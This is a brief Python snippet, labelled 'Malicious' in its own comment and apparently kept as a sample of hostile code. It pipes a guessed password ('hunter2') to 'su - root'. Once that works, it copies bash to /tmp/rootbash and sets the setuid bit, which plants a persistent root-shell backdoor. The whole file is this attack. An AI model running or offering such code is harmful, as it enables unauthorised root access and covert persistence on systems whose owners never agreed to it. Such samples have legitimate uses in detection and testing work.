# Malicious: tries `su - root` with a guessed password to run commands as root.
import subprocess

subprocess.run(["su", "-", "root", "-c", "cp /bin/bash /tmp/rootbash && chmod +s /tmp/rootbash"],
               input="hunter2\n", text=True)
